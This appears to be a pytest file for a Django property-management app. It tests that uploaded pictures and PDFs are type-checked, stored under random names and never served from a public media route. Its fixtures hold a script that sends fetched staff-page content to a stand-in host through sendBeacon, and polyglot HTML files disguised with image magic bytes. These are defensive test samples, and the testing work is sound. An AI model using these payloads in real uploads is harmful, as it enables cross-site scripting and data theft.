"""Uploaded files (guanjia/core/files): the type check, random names, the registry and the
absence of any public /media/ route. The serving view is tested with the apps that own file
fields (guanjia/tickets/tests/test_files.py, guanjia/estates/tests/test_files.py)."""

import importlib
import io
import re

import pytest
from django.apps import apps
from django.core.exceptions import FieldDoesNotExist, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import Resolver404, URLPattern, URLResolver, get_resolver, resolve
from PIL import Image

from guanjia.core.files.checks import check_upload
from guanjia.core.files.registry import register_file, registered_files
from guanjia.core.files.storage import RandomName
from guanjia.core.files.types import (
    JPEG,
    PDF,
    PICTURES,
    PICTURES_AND_PDF,
    PNG,
    UNKNOWN,
    WEBP,
    content_type_of,
    stored_type,
)
from guanjia.core.models import Community, Company

HTML = b"<!doctype html><script>fetch('/api/v1/estates/persons/').then(r=>r.text())</script>"
JS = b"fetch('/staff/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"


def picture(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (10, 200, 30)).save(buffer, format=fmt)
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def refusal(file: SimpleUploadedFile, types=PICTURES_AND_PDF) -> tuple[str, str]:
    with pytest.raises(ValidationError) as caught:
        check_upload(file, types, field="file")
    error = caught.value.error_dict["file"][0]
    return str(error.code), str(error.message)


@pytest.mark.parametrize(
    ("name", "content_type", "fmt", "expected"),
    [
        ("照片.jpg", "image/jpeg", "JPEG", JPEG),
        ("PHOTO.JPEG", "image/jpeg", "JPEG", JPEG),
        ("scan.png", "image/png", "PNG", PNG),
        ("phone.webp", "image/webp", "WEBP", WEBP),
    ],
)
def test_a_picture_whose_name_type_and_content_agree_is_accepted(name, content_type, fmt, expected):
    checked = check_upload(upload(name, picture(fmt), content_type), PICTURES, field="file")
    assert (checked.type, checked.original_name) == (expected, name)
    assert checked.file.name == f"upload.{expected.extension}"


def test_a_pdf_is_accepted_and_keeps_the_name_it_was_given():
    checked = check_upload(
        upload("购房合同.pdf", b"%PDF-1.7\n...", "application/pdf"), (PDF,), field="file"
    )
    assert (checked.type, checked.original_name, checked.size) == (PDF, "购房合同.pdf", 12)


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("avatar.png", HTML, "image/png"),
        ("avatar.webp", HTML, "image/webp"),
        ("avatar.jpg", JS, "image/jpeg"),
        ("scan.pdf", HTML, "application/pdf"),
        # Starts like a WebP picture (the old check read only these bytes), then is a page.
        ("avatar.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 " + HTML, "image/webp"),
        ("avatar.png", b"\x89PNG\r\n\x1a\n" + HTML, "image/png"),
    ],
)
def test_a_page_or_script_disguised_as_a_picture_or_pdf_is_refused(name, content, content_type):
    code, message = refusal(upload(name, content, content_type))
    assert code == "file_content_mismatch"
    assert "content is not the" in message


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("page.html", picture("PNG"), "image/png"),
        ("app.js", b"RIFF\x10\x00\x00\x00WEBP", "image/webp"),
        ("page.htm", HTML, "text/html"),
        ("image.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "image/svg+xml"),
        ("no-extension", picture("PNG"), "image/png"),
    ],
)
def test_a_name_of_a_type_not_accepted_is_refused_whatever_the_content(name, content, content_type):
    code, message = refusal(upload(name, content, content_type))
    assert code == "bad_file_type"
    assert message == "Only PDF, JPEG, PNG, WebP files are accepted."


@pytest.mark.parametrize(
    ("name", "fmt", "declared"),
    [
        ("a.png", "PNG", "text/html"),
        ("a.png", "PNG", "image/jpeg"),
        ("a.jpg", "JPEG", "application/javascript"),
        ("a.webp", "WEBP", ""),
    ],
)
def test_a_declared_type_that_is_not_the_names_is_refused(name, fmt, declared):
    code, message = refusal(upload(name, picture(fmt), declared))
    assert code == "declared_type_mismatch"
    assert "must be sent as image/" in message


def test_a_real_picture_of_another_type_than_its_name_is_refused():
    code, _message = refusal(upload("a.jpg", picture("PNG"), "image/jpeg"))
    assert code == "file_content_mismatch"


def test_a_pdf_is_refused_where_only_pictures_are_accepted():
    code, message = refusal(upload("a.pdf", b"%PDF-1.4\n", "application/pdf"), PICTURES)
    assert (code, message) == ("bad_file_type", "Only JPEG, PNG, WebP files are accepted.")


def test_an_empty_file_is_refused():
    assert refusal(upload("a.png", b"", "image/png"))[0] == "empty_file"


def test_the_content_decides_the_type_and_the_file_is_rewound():
    handle = io.BytesIO(picture("WEBP"))
    assert content_type_of(handle) is WEBP
    assert handle.tell() == 0
    assert content_type_of(io.BytesIO(b"GIF89a" + HTML)) is None


def test_uploads_are_stored_under_random_names_ending_with_the_verified_type():
    namer = RandomName("tickets/photos/")
    first, second = namer(None, "upload.jpg"), namer(None, "upload.jpg")
    assert re.fullmatch(r"tickets/photos/\d{4}/\d{2}/[0-9a-f]{32}\.jpg", first)
    assert first != second
    assert namer(None, "evil.html").endswith(".bin")


def test_only_a_random_name_carries_a_verified_type():
    hex32 = "0123456789abcdef" * 2
    assert stored_type(f"tickets/photos/2026/12/{hex32}.webp") is WEBP
    assert stored_type(f"estates/documents/2026/12/{hex32}.pdf") is PDF
    assert stored_type("tickets/photos/前.jpg") is UNKNOWN
    assert stored_type(f"tickets/photos/{hex32}.html") is UNKNOWN
    assert UNKNOWN.inline is False


def _file_fields() -> list[tuple[type[models.Model], models.FileField]]:
    return [
        (model, field)
        for model in apps.get_models()
        for field in model._meta.get_fields()
        if isinstance(field, models.FileField)
    ]


def test_every_file_field_is_stored_under_random_names_and_registered_for_serving():
    registered = {(spec.model, spec.field) for spec in registered_files()}
    fields = _file_fields()
    assert fields, "the project has file fields"
    for model, field in fields:
        label = f"{model._meta.label}.{field.name}"
        assert isinstance(field.upload_to, RandomName), f"{label}: upload_to=RandomName(...)"
        assert (model, field.name) in registered, f"{label}: register_file() in its AppConfig"


def test_registering_a_file_of_an_unscoped_record_or_a_missing_field_fails_at_start_up():
    with pytest.raises(TypeError, match="visible_to"):
        register_file(Company, "name", perm="core.view_company")
    with pytest.raises(FieldDoesNotExist):
        register_file(Community, "logo", perm="core.view_community")
    assert Company not in {spec.model for spec in registered_files()}


def _routes(resolver: URLResolver, prefix: str = "") -> list[str]:
    routes = []
    for pattern in resolver.url_patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            routes += _routes(pattern, route)
        elif isinstance(pattern, URLPattern):
            routes.append(route)
    return routes


@pytest.mark.parametrize("debug", [False, True])
def test_no_setting_has_a_public_media_route(settings, debug):
    settings.DEBUG = debug
    import config.urls

    try:
        urls = importlib.reload(config.urls)
        routes = [route for p in urls.urlpatterns for route in _routes_of(p)]
        assert not [r for r in routes if "media" in r.lower()]
    finally:
        settings.DEBUG = False
        importlib.reload(config.urls)
    with pytest.raises(Resolver404):
        resolve("/media/tickets/photos/a.jpg")
    assert "media" not in " ".join(_routes(get_resolver()))


def _routes_of(pattern: URLPattern | URLResolver) -> list[str]:
    if isinstance(pattern, URLResolver):
        return _routes(pattern, str(pattern.pattern))
    return [str(pattern.pattern)]
